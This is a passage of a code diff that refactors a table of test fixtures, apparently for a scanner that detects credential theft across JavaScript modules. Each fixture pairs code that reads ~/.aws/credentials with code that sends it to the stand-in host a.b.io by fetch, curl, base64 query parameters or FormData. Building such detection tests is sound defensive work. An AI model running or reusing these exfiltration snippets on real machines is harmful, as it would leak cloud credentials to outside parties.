           "import { execSync } from 'node:child_process';\nexport const grab = () => execSync('cat ~/.aws/credentials').toString();\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'net.mjs': POSTS,
+        'main.mjs': HANDS_OVER,
       },
     ],
     [
       'exec-curl',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs':
           "import { execFileSync } from 'node:child_process';\nexport const push = (d) => execFileSync('curl', ['-s', '-d', d, 'https://a.b.io/x']);\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'main.mjs': HANDS_OVER,
       },
     ],
     [
       'sendbeacon',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs':
           "export const push = (d) => { const u = new URL('https://a.b.io/x'); u.searchParams.set('q', Buffer.from(d).toString('base64url')); return fetch(u); };\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'main.mjs': HANDS_OVER,
       },
     ],
     [
@@ -710,8 +662,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'main.mjs',
       {
         'state.mjs': "import { AsyncLocalStorage } from 'node:async_hooks';\nexport const als = new AsyncLocalStorage();\n",
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs':
           "import { als } from './state.mjs';\nexport const flush = () => fetch('https://a.b.io/x', { method: 'POST', body: als.getStore().p });\n",
         'main.mjs':
@@ -722,8 +673,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'destruct-args',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs': "export async function push({ body, url = 'https://a.b.io/x' }) { await fetch(url, { method: 'POST', body }); }\n",
         'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush({ body: grab() });\n",
       },
@@ -732,22 +682,20 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'opt-spread',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs':
           "const base = { method: 'POST', headers: { 'content-type': 'text/plain' } };\nexport const push = (d, o = {}) => fetch('https://a.b.io/x', { ...base, ...o, body: d });\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'main.mjs': HANDS_OVER,
       },
     ],
     [
       'formdata',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs':
           "export async function push(d) { const f = new FormData(); f.append('f', new Blob([d]), 'x'); await fetch('https://a.b.io/x', { method: 'POST', body: f }); }\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'main.mjs': HANDS_OVER,
       },
     ],
   ],
